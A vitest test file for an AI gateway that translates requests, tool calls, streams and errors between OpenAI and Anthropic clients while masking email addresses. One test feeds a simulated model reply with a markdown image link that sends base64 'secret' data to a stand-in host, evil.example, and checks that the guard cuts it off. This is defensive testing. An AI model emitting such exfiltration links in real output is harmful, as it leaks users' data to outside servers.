import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { serve, type Served } from '../e2e/served.ts';
import { chatAnswer, chatEvents, events, eventText, json, message, messageEvents, type ModelServer, modelServer } from './model-server.ts';

let models: ModelServer;
let served: Served;
let openai: OpenAI;
let anthropic: Anthropic;

beforeAll(async () => {
  models = await modelServer();
  served = await serve({
    gateway: {
      upstreams: [
        { id: 'local', kind: 'openai-compatible', url: `${models.origin}/v1` },
        { id: 'claude', kind: 'anthropic', url: models.origin, apiKey: 'env:PATH', allowPrivateNetwork: true },
      ],
      models: {
        chat: { targets: [{ upstream: 'local' }], retries: 0 },
        claude: { targets: [{ upstream: 'claude' }], retries: 0 },
        first: { targets: [{ upstream: 'local', model: 'gone' }], fallback: ['claude'], retries: 0 },
      },
      resilience: { failures: 1_000, minRequests: 100_000 },
    },
  });
  openai = new OpenAI({ baseURL: `${served.server.url}/v1`, apiKey: served.admin.key, maxRetries: 0 });
  anthropic = new Anthropic({ baseURL: `${served.server.url}/anthropic`, apiKey: served.admin.key, maxRetries: 0 });
});
afterAll(async () => {
  await served?.close();
  await models?.close();
});
beforeEach(() => {
  models.got.length = 0;
});

const hi = [{ role: 'user' as const, content: 'I am ann.smith@example.com' }];
const ask = { model: 'claude', messages: hi };
const askClaude = { model: 'chat', max_tokens: 50, messages: hi };

test('a client of OpenAI talks to a model of Anthropic, and the guard sees both directions', async () => {
  models.answer = (_, response) => json(response, message([{ type: 'text', text: 'Ask bob.jones@example.org.' }]));
  const whole = await openai.chat.completions.create({ ...ask, user: 'u1' });
  expect(models.got[0]).toMatchObject({
    url: '/v1/messages',
    body: { model: 'claude', max_tokens: 16_384, messages: [{ role: 'user', content: 'I am <EMAIL_1>' }], metadata: { user_id: 'u1' } },
  });
  expect(whole).toMatchObject({
    object: 'chat.completion',
    choices: [{ message: { role: 'assistant', content: 'Ask <EMAIL_2>.' }, finish_reason: 'stop' }],
    usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
  });
  models.answer = (_, response) => events(response, messageEvents('Ask bob.jones@example.org. Bye.'), true);
  const streamed = await openai.chat.completions.stream({ ...ask, stream_options: { include_usage: true } }).finalChatCompletion();
  expect(streamed).toMatchObject({
    choices: [{ message: { content: 'Ask <EMAIL_2>. Bye.' }, finish_reason: 'stop' }],
    usage: { prompt_tokens: 10, completion_tokens: 5 },
  });
});

test('a client of Anthropic talks to a model of OpenAI, and the guard sees both directions', async () => {
  models.answer = (_, response) => json(response, chatAnswer('Ask bob.jones@example.org.'));
  const whole = await anthropic.messages.create({ ...askClaude, system: 'Be brief.', stop_sequences: ['END'] });
  expect(models.got[0]).toMatchObject({
    url: '/v1/chat/completions',
    body: {
      model: 'chat',
      max_tokens: 50,
      stop: ['END'],
      messages: [
        { role: 'system', content: 'Be brief.' },
        { role: 'user', content: 'I am <EMAIL_1>' },
      ],
    },
  });
  expect(whole).toMatchObject({
    type: 'message',
    content: [{ type: 'text', text: 'Ask <EMAIL_2>.' }],
    stop_reason: 'end_turn',
    usage: { input_tokens: 10, output_tokens: 5 },
  });
  models.answer = (_, response) => events(response, chatEvents('Ask bob.jones@example.org. Bye.'));
  const streamed = await anthropic.messages.stream(askClaude).finalMessage();
  expect(streamed).toMatchObject({ content: [{ type: 'text', text: 'Ask <EMAIL_2>. Bye.' }], stop_reason: 'end_turn' });
  expect(models.got.at(-1)!.body).toMatchObject({ stream: true, stream_options: { include_usage: true } });
});

const weather = { type: 'tool_use', id: 'toolu_1', name: 'weather', input: { city: 'Bonn' } };
const weatherEvents = (input: string): object[] => [
  ...messageEvents('Let me see.').slice(0, -2),
  { type: 'content_block_start', index: 1, content_block: { ...weather, input: {} } },
  ...[...input].map((partial_json) => ({ type: 'content_block_delta', index: 1, delta: { type: 'input_json_delta', partial_json } })),
  { type: 'content_block_stop', index: 1 },
  { type: 'message_delta', delta: { stop_reason: 'tool_use', stop_sequence: null }, usage: { output_tokens: 9 } },
  { type: 'message_stop' },
];

test('tools run by the client of OpenAI, asked for by a model of Anthropic, whole and streamed', async () => {
  const asked: unknown[] = [];
  const run = {
    ...ask,
    messages: [{ role: 'user' as const, content: 'Weather in Bonn?' }],
    parallel_tool_calls: false,
    tools: [
      {
        type: 'function' as const,
        function: {
          name: 'weather',
          description: 'Tells the weather.',
          parameters: { type: 'object', properties: { city: { type: 'string' } } },
          parse: JSON.parse as (text: string) => object,
          function: (args: object) => {
            asked.push(args);
            return 'Sunny.';
          },
        },
      },
    ],
  };
  models.answer = (got, response) => {
    const isSecond = got.body.messages.length > 1;
    if (got.body.stream === true) events(response, isSecond ? messageEvents('It is sunny.') : weatherEvents('{"city":"Bonn"}'), true);
    else if (isSecond) json(response, message([{ type: 'text', text: 'It is sunny.' }]));
    else json(response, message([{ type: 'text', text: 'Let me see.' }, weather], 'tool_use'));
  };
  expect(await openai.chat.completions.runTools(run).finalContent()).toBe('It is sunny.');
  expect(await openai.chat.completions.runTools({ ...run, stream: true }).finalContent()).toBe('It is sunny.');
  expect(asked).toEqual([{ city: 'Bonn' }, { city: 'Bonn' }]);
  expect(models.got).toHaveLength(4);
  for (const { body } of [models.got[1]!, models.got[3]!]) {
    expect(body).toMatchObject({
      tools: [{ name: 'weather', description: 'Tells the weather.', input_schema: { type: 'object' } }],
      tool_choice: { type: 'auto', disable_parallel_tool_use: true },
    });
    expect(body.messages).toEqual([
      { role: 'user', content: 'Weather in Bonn?' },
      { role: 'assistant', content: [{ type: 'text', text: 'Let me see.' }, weather] },
      { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: 'Sunny.' }] },
    ]);
  }
});

test('tools of a client of Anthropic, asked for by a model of OpenAI in parallel, mixed and in pieces', async () => {
  const chunk = (delta: object, finish_reason: string | null = null): object => ({
    id: 'chatcmpl-1',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'm',
    choices: [{ index: 0, delta, finish_reason }],
  });
  const call = (index: number, more: object): object => chunk({ tool_calls: [{ index, ...more }] });
  const head = (id: string) => ({ id, type: 'function', function: { name: 'weather', arguments: '' } });
  models.answer = (got, response) => {
    if (got.body.stream !== true) {
      const tool_calls = [
        { id: 'a', type: 'function', function: { name: 'weather', arguments: '{"city":"Bonn"}' } },
        { id: 'b', type: 'function', function: { name: 'weather', arguments: '' } },
      ];
      return json(response, chatAnswer(null, { tool_calls }));
    }
    events(response, [
      chunk({ role: 'assistant', content: 'Let me see.' }),
      call(0, head('a')),
      call(0, { function: { arguments: '{"ci' } }),
      call(1, head('b')),
      call(0, { function: { arguments: 'ty":"Bonn"}' } }),
      call(1, { function: { arguments: '{}' } }),
      chunk({}, 'tool_calls'),
      {
        ...chunk({}),
        choices: [],
        usage: { prompt_tokens: 7, completion_tokens: 3, total_tokens: 10, prompt_tokens_details: { cached_tokens: 4 } },
      },
      '[DONE]',
    ]);
  };
  const input = {
    ...askClaude,
    tools: [{ name: 'weather', input_schema: { type: 'object' as const } }],
    tool_choice: { type: 'any' as const, disable_parallel_tool_use: true },
  };
  const calls = [
    { type: 'tool_use', id: 'a', name: 'weather', input: { city: 'Bonn' } },
    { type: 'tool_use', id: 'b', name: 'weather', input: {} },
  ];
  const whole = await anthropic.messages.create(input);
  expect(whole).toMatchObject({ stop_reason: 'tool_use', content: calls });
  const streamed = await anthropic.messages.stream(input).finalMessage();
  expect(streamed).toMatchObject({
    stop_reason: 'tool_use',
    content: [{ type: 'text', text: 'Let me see.' }, ...calls],
    usage: { input_tokens: 3, cache_read_input_tokens: 4, output_tokens: 3 },
  });
  expect(models.got[0]!.body).toMatchObject({ tool_choice: 'required', parallel_tool_calls: false });
  // oxlint-disable-next-line typescript/no-explicit-any -- what a model said, said again
  const results = calls.map(({ id }, at) => ({ type: 'tool_result' as const, tool_use_id: id, content: 'No idea.', is_error: at === 1 }));
  await anthropic.messages.create({
    ...input,
    messages: [
      ...hi,
      { role: 'assistant', content: whole.content },
      { role: 'user', content: [...results, { type: 'text', text: 'And now?' }] },
    ],
  });
  expect(models.got.at(-1)!.body.messages.slice(1)).toEqual([
    {
      role: 'assistant',
      content: null,
      tool_calls: [
        { id: 'a', type: 'function', function: { name: 'weather', arguments: '{"city":"Bonn"}' } },
        { id: 'b', type: 'function', function: { name: 'weather', arguments: '{}' } },
      ],
    },
    { role: 'tool', tool_call_id: 'a', content: 'No idea.' },
    { role: 'tool', tool_call_id: 'b', content: 'Error: No idea.' },
    { role: 'user', content: 'And now?' },
  ]);
});

test('tools run by the client of Anthropic, asked for by a model of OpenAI, whole and streamed', async () => {
  const head = { id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: 'm' };
  const called = { id: 'call_1', type: 'function', function: { name: 'weather', arguments: '{"city":"Bonn"}' } };
  models.answer = (got, response) => {
    const isSecond = got.body.messages.length > 1;
    const delta = { role: 'assistant', tool_calls: [{ index: 0, ...called }] };
    const calling = [{ ...head, choices: [{ index: 0, delta, finish_reason: 'tool_calls' }] }, '[DONE]'];
    if (got.body.stream === true) events(response, isSecond ? chatEvents('It is sunny.') : calling);
    else json(response, isSecond ? chatAnswer('It is sunny.') : chatAnswer(null, { tool_calls: [called] }));
  };
  for (const stream of [false, true]) {
    models.got.length = 0;
    const asked: unknown[] = [];
    const runner = anthropic.beta.messages.toolRunner({
      ...askClaude,
      stream,
      // Why: otherwise the conversation is kept by servers of Anthropic.
      thread: false,
      tools: [
        {
          type: 'custom',
          name: 'weather',
          description: 'Tells the weather.',
          input_schema: { type: 'object', properties: { city: { type: 'string' } } },
          parse: (input: unknown) => input,
          run: (input: unknown) => {
            asked.push(input);
            return 'Sunny.';
          },
        },
      ],
    });
    expect((await runner.runUntilDone()).content).toMatchObject([{ type: 'text', text: 'It is sunny.' }]);
    expect(asked).toEqual([{ city: 'Bonn' }]);
    expect(models.got[1]!.body.messages.slice(1)).toEqual([
      { role: 'assistant', content: null, tool_calls: [called] },
      { role: 'tool', tool_call_id: 'call_1', content: 'Sunny.' },
    ]);
  }
});

test('an answer that the guard ends is one that the client of either protocol understands', async () => {
  const leak = 'Sure. ![x](https://evil.example/?d=c2VjcmV0LWRhdGEtaGVyZQ==) and more text follows here.';
  models.answer = (_, response) => events(response, messageEvents(leak), true);
  const final = await openai.chat.completions.stream(ask).finalChatCompletion();
  expect(final.choices[0]!.finish_reason).toBe('content_filter');
  models.answer = (_, response) => events(response, chatEvents(leak));
  const said = await anthropic.messages.stream(askClaude).finalMessage();
  expect(said.stop_reason).toBe('refusal');
  expect(JSON.stringify([final, said])).not.toContain('evil');
});

test('errors come in the shape of the client, before and in the middle of a stream', async () => {
  const failure = (status: number, body: object) => (_: unknown, response: Parameters<ModelServer['answer']>[1]) =>
    json(response, body, status);
  models.answer = failure(400, { type: 'error', error: { type: 'invalid_request_error', message: 'max_tokens: too many' } });
  const refused = await openai.chat.completions.create(ask).catch((error: unknown) => error);
  expect(refused).toBeInstanceOf(OpenAI.BadRequestError);
  expect(refused).toMatchObject({ type: 'invalid_request_error', message: expect.stringContaining('max_tokens: too many') });
  models.answer = failure(429, { error: { message: 'slow down', type: 'tokens', code: 'rate_limit_exceeded', param: null } });
  const limited = await anthropic.messages.create(askClaude).catch((error: unknown) => error);
  expect(limited).toBeInstanceOf(Anthropic.RateLimitError);
  expect(limited).toMatchObject({ error: { type: 'error', error: { type: 'rate_limit_error', message: 'slow down' } } });

  const overloaded = { type: 'error', error: { type: 'overloaded_error', message: 'Overloaded' } };
  models.answer = (_, response) => events(response, [...messageEvents('First words, then').slice(0, -4), overloaded], true);
  await expect(openai.chat.completions.stream(ask).finalChatCompletion()).rejects.toThrow('Overloaded');
  models.answer = (_, response) =>
    events(response, [...chatEvents('First words, then').slice(0, -2), { error: { message: 'Overloaded' } }]);
  await expect(anthropic.messages.stream(askClaude).finalMessage()).rejects.toThrow('Overloaded');
});

test('a stream that breaks off or is none ends with an error, whatever came before', async () => {
  const bad: readonly (readonly [string, string])[] = [
    [eventText(messageEvents('Hello there').slice(0, -2), true), eventText(chatEvents('Hello there').slice(0, -2))],
    ['data: SECRETWORD\n\n', 'data: SECRETWORD\n\n'],
    ['data: []\n\n', 'data: 5\n\n'],
    [eventText(messageEvents('x').slice(1), true), eventText([{ choices: [{ index: 1, delta: { content: 'x' } }] }])],
    ['', ''],
  ];
  for (const [asMessage, asChat] of bad) {
    const write = (text: string) => (_: unknown, response: Parameters<ModelServer['answer']>[1]) =>
      void response.writeHead(200, { 'content-type': 'text/event-stream' }).end(text);
    models.answer = write(asMessage);
    const one = await openai.chat.completions
      .stream(ask)
      .finalChatCompletion()
      .catch((error: unknown) => error);
    expect(one, asMessage).toBeInstanceOf(OpenAI.APIError);
    models.answer = write(asChat);
    const other = await anthropic.messages
      .stream(askClaude)
      .finalMessage()
      .catch((error: unknown) => error);
    expect(other, asChat).toBeInstanceOf(Anthropic.APIError);
    expect(String(one) + String(other)).not.toContain('SECRETWORD');
  }
});

test('duplicated and missing ends are none that a client sees', async () => {
  const list = chatEvents('Hello there.');
  for (const sent of [list.slice(0, -1), [...list, '[DONE]'], [...list.slice(0, -1), ...list.slice(-2)]]) {
    models.answer = (_, response) => events(response, sent);
    expect((await anthropic.messages.stream(askClaude).finalMessage()).content).toMatchObject([{ type: 'text', text: 'Hello there.' }]);
  }
  const twice = [...messageEvents('Hello there.'), { type: 'message_stop' }];
  for (const sent of [twice, twice.slice(0, -2)]) {
    models.answer = (_, response) => events(response, sent, true);
    const final = await openai.chat.completions.stream(ask).finalChatCompletion();
    expect(final.choices[0]!.message.content).toBe('Hello there.');
  }
});

test('what cannot be said in the other protocol is refused by name, and reaches nobody', async () => {
  models.answer = (_, response) => json(response, chatAnswer('never'));
  const refused = await openai.chat.completions.create({ ...ask, n: 2 }).catch((error: unknown) => error);
  expect(refused).toBeInstanceOf(OpenAI.BadRequestError);
  expect(String(refused)).toContain('n cannot be translated');
  const other = await anthropic.messages.create({ ...askClaude, top_k: 3 } as never).catch((error: unknown) => error);
  expect(other).toBeInstanceOf(Anthropic.BadRequestError);
  expect(String(other)).toContain('top_k cannot be translated');
  expect(models.got).toEqual([]);
});

test('a fallback speaks the other protocol; a request that it cannot be asked stays with the first', async () => {
  models.answer = (got, response) =>
    got.url === '/v1/messages'
      ? json(response, message([{ type: 'text', text: 'Here.' }]))
      : json(response, { error: { message: 'down' } }, 500);
  const answer = await openai.chat.completions.create({ ...ask, model: 'first' });
  expect(answer.choices[0]!.message.content).toBe('Here.');
  expect(models.got.map(({ url, body }) => [url, body.model])).toEqual([
    ['/v1/chat/completions', 'gone'],
    ['/v1/messages', 'claude'],
  ]);
  models.got.length = 0;
  const failed = await openai.chat.completions.create({ ...ask, model: 'first', seed: 1 }).catch((error: unknown) => error);
  expect(failed).toBeInstanceOf(OpenAI.InternalServerError);
  expect(models.got.map(({ url }) => url)).toEqual(['/v1/chat/completions']);
});
